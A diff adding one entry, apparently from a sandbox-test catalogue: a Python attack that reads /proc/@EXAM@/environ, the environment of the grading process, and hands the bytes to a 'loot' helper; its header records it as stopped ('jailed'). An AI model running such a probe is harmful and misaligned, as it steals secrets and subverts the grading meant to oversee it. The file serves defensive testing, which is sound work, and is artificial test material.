@@ -1,0 +1,12 @@
+# /// attack
+# title = "Reads the environment of the process that grades"
+# rows = ["R7"]
+# stopped_at = "jailed"
+# proven = false
+# ///
+from loot import loot
+
+
+def attack(*arguments, **keywords):
+    with open("/proc/@EXAM@/environ", "rb") as file:
+        return loot(file.read())
